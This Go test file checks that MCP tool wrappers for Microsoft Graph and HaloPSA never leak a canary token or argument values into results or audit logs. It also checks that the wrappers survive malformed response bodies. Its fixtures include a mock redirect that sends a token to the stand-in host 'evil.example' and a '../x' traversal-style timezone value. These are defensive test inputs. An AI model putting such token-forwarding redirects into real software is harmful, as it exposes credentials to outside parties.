package e2e_test

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/msptoolbelt/toolbelt/auth"
	"github.com/msptoolbelt/toolbelt/graph"
	"github.com/msptoolbelt/toolbelt/halopsa"
	"github.com/msptoolbelt/toolbelt/mcptools"
	"github.com/msptoolbelt/toolbelt/resilience"
)

// Whatever a service answers with, no tool shows its caller a token, a query or a
// raw body, and no log has a value of an argument.
func TestCanariesStayInside(t *testing.T) {
	const (
		secret   = "c4n4ry-t0ken"
		argument = "c4n4ry-argument"
	)
	answers := map[string]http.HandlerFunc{
		"page": func(w http.ResponseWriter, _ *http.Request) {
			w.WriteHeader(http.StatusBadGateway)
			fmt.Fprintf(w, "<html>proxy: Authorization: Bearer %s</html>", secret)
		},
		"echo": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, `{"error":{"code":"x","message":"GET http://x%s?q=%s failed, %s"}}`, r.URL.Path, secret, r.Header.Get("Authorization"))
		},
		"text": func(w http.ResponseWriter, r *http.Request) {
			w.WriteHeader(http.StatusBadRequest)
			fmt.Fprintf(w, "failed: %s; password=%s", r.Header.Get("Authorization"), secret)
		},
		"nonsense": func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, `{"id":"`+secret) },
		"away": func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "https://evil.example/?token="+secret, http.StatusTemporaryRedirect)
		},
		"cut": func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Content-Length", "1000")
			fmt.Fprint(w, secret)
		},
	}
	for name, answer := range answers {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewServer(answer)
			t.Cleanup(server.Close)
			quick := resilience.Options{Retry: resilience.RetryPolicy{MaxAttempts: 1}, Breaker: resilience.BreakerPolicy{Consecutive: 1 << 30, MinRequests: 1 << 30}}
			m365, err := graph.New(auth.Static(secret), graph.Options{BaseURL: server.URL, TimeZone: "UTC", Resilience: quick})
			if err != nil {
				t.Fatal(err)
			}
			halo, err := halopsa.New(auth.Static(secret), halopsa.Options{URL: server.URL, Resilience: quick})
			if err != nil {
				t.Fatal(err)
			}
			var log bytes.Buffer
			tools := mcptools.Join(m365.Tools(), halo.Tools()).With(mcptools.Audit(slog.New(slog.NewTextHandler(&log, nil))), mcptools.Timeout(5*time.Second))
			for tool := range tools.All() {
				result, err := tool.Call(t.Context(), filled(t, tool, argument))
				text := ""
				if result != nil {
					text = string(result.Value)
				}
				if err != nil {
					text = err.Error()
				}
				if strings.Contains(text, secret) {
					t.Errorf("%s: %s", tool.Spec().Name, text)
				}
			}
			if strings.Contains(log.String(), secret) || strings.Contains(log.String(), argument) {
				t.Errorf("the log has values: %s", log.String())
			}
		})
	}
}

// filled returns arguments for a tool: what is required, and value wherever text
// is wanted.
func filled(t *testing.T, tool mcptools.Tool, value string) json.RawMessage {
	t.Helper()
	var schema struct {
		Properties map[string]struct {
			Type string   `json:"type"`
			Enum []string `json:"enum"`
		} `json:"properties"`
		Required []string `json:"required"`
	}
	if err := json.Unmarshal(tool.InputSchema(), &schema); err != nil {
		t.Fatal(err)
	}
	args := map[string]any{}
	for _, name := range schema.Required {
		p := schema.Properties[name]
		switch {
		case len(p.Enum) > 0:
			args[name] = p.Enum[0]
		case p.Type == "integer":
			args[name] = 7
		case strings.HasPrefix(name, "to"), name == "people":
			args[name] = []string{value + "@example.com"}
		case p.Type == "array":
			args[name] = []string{value}
		case name == "duration":
			args[name] = "45m"
		case name == "start":
			args[name] = "2027-01-04T10:00"
		default:
			args[name] = value
		}
	}
	document, err := json.Marshal(args)
	if err != nil {
		t.Fatal(err)
	}
	return document
}

// An answer that lacks everything, or has it in another shape, is an error or an
// empty result and never a panic.
func TestEmptyShapesAreNoPanic(t *testing.T) {
	for _, body := range []string{
		``, `null`, `{}`, `[]`, `[null]`, `[{}]`, `7`, `"x"`, `{"value":[]}`, `{"value":[null]}`, `{"value":[{}]}`, `{"id":"x"}`, `{"id":7}`,
		`{"id":"x","value":[{"id":"x","displayName":"Ann"}]}`, `{"id":7,"value":[{"id":"x","start":{},"end":{},"recurrence":{"pattern":{},"range":{}},"body":{}}]}`,
		`{"id":7,"start":{"dateTime":"x","timeZone":"../x"},"end":null,"recurrence":{"pattern":{"type":"weekly","daysOfWeek":[""]}},"isDraft":true}`,
		`{"record_count":1,"tickets":[{}],"clients":[{}],"sites":[{}],"users":[{}],"actions":[{}],"agents":[{}],"teams":[{}],"id":7,"ticket_id":7}`,
		`{"record_count":-1,"tickets":[null],"clients":[null],"sites":[null],"users":[null],"actions":[null],"agents":[null],"attachments":[null],"id":7}`,
		`{"responses":[{},{"id":"0","status":200},{"id":"0","status":200,"body":null}]}`, `{"responses":null}`,
	} {
		t.Run(body, func(t *testing.T) {
			t.Parallel()
			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { fmt.Fprint(w, body) }))
			t.Cleanup(server.Close)
			m365, err := graph.New(auth.Static("token"), graph.Options{BaseURL: server.URL})
			if err != nil {
				t.Fatal(err)
			}
			halo, err := halopsa.New(auth.Static("token"), halopsa.Options{URL: server.URL})
			if err != nil {
				t.Fatal(err)
			}
			for tool := range mcptools.Join(m365.Tools(), halo.Tools()).All() {
				if _, err := tool.Call(t.Context(), filled(t, tool, "c4n4ry")); err != nil && strings.HasPrefix(err.Error(), "internal") {
					e, _ := errors.AsType[*mcptools.Error](err)
					t.Errorf("%s: %v: %v", tool.Spec().Name, err, e.Err)
				}
			}
		})
	}
}
